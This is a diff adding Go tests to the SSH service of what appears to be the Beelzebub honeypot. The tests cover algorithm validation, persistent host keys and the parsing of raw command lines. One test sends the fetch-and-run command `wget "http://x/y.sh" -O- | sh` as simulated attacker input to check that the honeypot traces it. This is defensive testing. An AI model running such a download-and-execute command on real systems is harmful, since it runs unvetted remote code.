@@ -1,21 +1,63 @@
 package SSH
 
 import (
+	"context"
+	"net"
+	"path/filepath"
+	"regexp"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/beelzebub-labs/beelzebub/v3/internal/parser"
 	"github.com/beelzebub-labs/beelzebub/v3/internal/tracer"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	gossh "golang.org/x/crypto/ssh"
 )
 
 type mockTracer struct {
+	mu     sync.Mutex
 	events []tracer.Event
 }
 
 func (m *mockTracer) TraceEvent(event tracer.Event) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
 	m.events = append(m.events, event)
 }
 
+func (m *mockTracer) Events() []tracer.Event {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	return append([]tracer.Event(nil), m.events...)
+}
+
+// startSSHStrategy starts the strategy and returns the address it is listening on.
+func startSSHStrategy(t *testing.T, servConf parser.BeelzebubServiceConfiguration, tr tracer.Tracer) string {
+	t.Helper()
+	strategy := &SSHStrategy{}
+	servConf.Address = "127.0.0.1:0"
+	require.NoError(t, strategy.Init(servConf, tr))
+	t.Cleanup(func() {
+		ctx, cancel := context.WithTimeout(context.Background(), time.Second)
+		defer cancel()
+		strategy.Shutdown(ctx)
+	})
+
+	var address net.Addr
+	require.Eventually(t, func() bool {
+		strategy.mu.Lock()
+		defer strategy.mu.Unlock()
+		if len(strategy.listeners) == 0 {
+			return false
+		}
+		address = strategy.listeners[0].Addr()
+		return true
+	}, 2*time.Second, 10*time.Millisecond)
+	return address.String()
+}
+
 func TestBuildPrompt(t *testing.T) {
 	tests := []struct {
 		user       string
@@ -83,3 +125,83 @@ func TestSSHStrategy_Init_InvalidAddress(t *testing.T) {
 	// SSH runs the listener asynchronously; Init itself should not return an error.
 	assert.NoError(t, strategy.Init(servConf, mt))
 }
+
+func TestSSHStrategy_Init_InvalidAlgorithms(t *testing.T) {
+	strategy := &SSHStrategy{}
+	mt := &mockTracer{}
+
+	servConf := parser.BeelzebubServiceConfiguration{
+		Address:    "127.0.0.1:0",
+		Algorithms: parser.SSHAlgorithms{MACs: []string{"hmac-md4"}},
+	}
+
+	assert.Error(t, strategy.Init(servConf, mt))
+}
+
+func TestSSHStrategy_PersistentHostKey(t *testing.T) {
+	keyPath := filepath.Join(t.TempDir(), "ssh_host_ed25519_key")
+	servConf := parser.BeelzebubServiceConfiguration{
+		DeadlineTimeoutSeconds: 2,
+		PasswordRegex:          "^root$",
+		HostKeys:               parser.SSHHostKeys{Ed25519: keyPath},
+		Algorithms:             parser.SSHAlgorithms{Ciphers: []string{"aes256-ctr"}},
+	}
+
+	fingerprints := make([]string, 0, 2)
+	for i := 0; i < 2; i++ {
+		address := startSSHStrategy(t, servConf, &mockTracer{})
+
+		client, err := gossh.Dial("tcp", address, &gossh.ClientConfig{
+			User: "root",
+			Auth: []gossh.AuthMethod{gossh.Password("root")},
+			HostKeyCallback: func(_ string, _ net.Addr, key gossh.PublicKey) error {
+				fingerprints = append(fingerprints, gossh.FingerprintSHA256(key))
+				return nil
+			},
+			Config: gossh.Config{Ciphers: []string{"aes256-ctr"}},
+		})
+		require.NoError(t, err)
+		client.Close()
+	}
+
+	require.Len(t, fingerprints, 2)
+	assert.Equal(t, fingerprints[0], fingerprints[1])
+}
+
+func TestSSHStrategy_RawCommandLine(t *testing.T) {
+	mt := &mockTracer{}
+	servConf := parser.BeelzebubServiceConfiguration{
+		DeadlineTimeoutSeconds: 2,
+		PasswordRegex:          "^root$",
+		Commands: []parser.Command{
+			{Name: "uname", Regex: regexp.MustCompile(`^uname -a$`), Handler: "Linux ubuntu 5.15.0-91-generic"},
+			{Name: "wget", Regex: regexp.MustCompile(`^wget `), Handler: "saved"},
+			{Name: "catch-all", Regex: regexp.MustCompile(`^(.+)$`), Handler: "command not found"},
+		},
+	}
+	address := startSSHStrategy(t, servConf, mt)
+
+	client, err := gossh.Dial("tcp", address, &gossh.ClientConfig{
+		User:            "root",
+		Auth:            []gossh.AuthMethod{gossh.Password("root")},
+		HostKeyCallback: gossh.InsecureIgnoreHostKey(),
+	})
+	require.NoError(t, err)
+	defer client.Close()
+	session, err := client.NewSession()
+	require.NoError(t, err)
+	defer session.Close()
+
+	output, err := session.Output(`uname -a; wget "http://x/y.sh" -O- | sh`)
+	require.NoError(t, err)
+	assert.Equal(t, "Linux ubuntu 5.15.0-91-generic\ncommand not found\n", string(output))
+
+	event := waitForEvent(t, mt, "SSH Raw Command")
+	assert.Equal(t, `uname -a; wget "http://x/y.sh" -O- | sh`, event.Command)
+	assert.Equal(t, "catch-all", event.Handler)
+	assert.Equal(t, []tracer.SubCommand{
+		{Command: "uname -a", CommandOutput: "Linux ubuntu 5.15.0-91-generic", Handler: "uname"},
+		{Command: "wget http://x/y.sh -O-", CommandOutput: "saved", Handler: "wget"},
+		{Command: "sh", CommandOutput: "command not found", Handler: "catch-all"},
+	}, event.SubCommands)
+}